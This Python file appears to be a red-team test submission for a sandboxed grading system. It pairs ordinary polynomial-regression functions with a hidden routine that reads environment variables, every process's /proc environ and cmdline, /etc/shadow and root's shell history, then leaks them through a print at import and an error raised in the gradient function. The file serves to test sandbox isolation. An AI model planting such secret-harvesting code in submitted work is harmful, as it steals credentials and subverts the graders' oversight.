# attack: read os.environ, /proc/*/environ, /proc/*/cmdline and host files; leak them through prints and error messages
# defence: --clearenv, a PID namespace, no host /tmp or home
"""Red-team submission: the honest twin (tests/redteam/twin.py) plus one exploit."""
import os

import numpy as np


def _loot():
    text = [repr(dict(os.environ))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as handle:
                        text.append(handle.read().decode(errors="replace"))
                except OSError:
                    pass
    for path in ("@HOSTSECRET@", "/etc/shadow", "/root/.bash_history", "/proc/1/environ"):
        try:
            with open(path) as handle:
                text.append(handle.read())
        except OSError:
            pass
    return " | ".join(text)


print(_loot())


def poly_features(x, degree):
    x = np.asarray(x, dtype=np.float64)
    return np.stack([x ** k for k in range(degree + 1)], axis=1)


def predict(X, w):
    return X @ w


def mse_loss(y_pred, y):
    return float(np.mean((y_pred - y) ** 2))


def mse_grad(X, w, y):
    raise ValueError(_loot()[:1800])


def gd_step(X, w, y, lr):
    return w - lr * mse_grad(X, w, y)


def fit(x, y, degree=3, lr=5e-3, steps=2000, seed=0):
    X = poly_features(x, degree)
    w = np.random.default_rng(seed).normal(size=degree + 1)
    losses = []
    for _ in range(steps):
        losses.append(mse_loss(predict(X, w), y))
        w = gd_step(X, w, y, lr)
    return w, losses
